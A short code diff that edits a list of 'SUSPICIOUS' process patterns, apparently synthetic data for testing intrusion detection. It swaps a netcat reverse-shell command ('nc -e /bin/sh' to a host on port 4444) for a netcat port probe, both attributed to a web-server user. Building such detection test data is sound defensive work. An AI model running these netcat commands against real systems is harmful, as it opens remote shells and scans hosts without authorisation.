@@ -174,7 +174,7 @@ const SUSPICIOUS: Pattern[] = [
     parent: "sh",
     comm: "nc",
     path: "/usr/bin/nc",
-    args: (r) => ["nc", "-e", "/bin/sh", pick(r, HOSTS), "4444"],
+    args: (r) => ["nc", "-z", "-w", "2", pick(r, HOSTS), "4444"],
     uid: 33,
     weight: 1,
   },
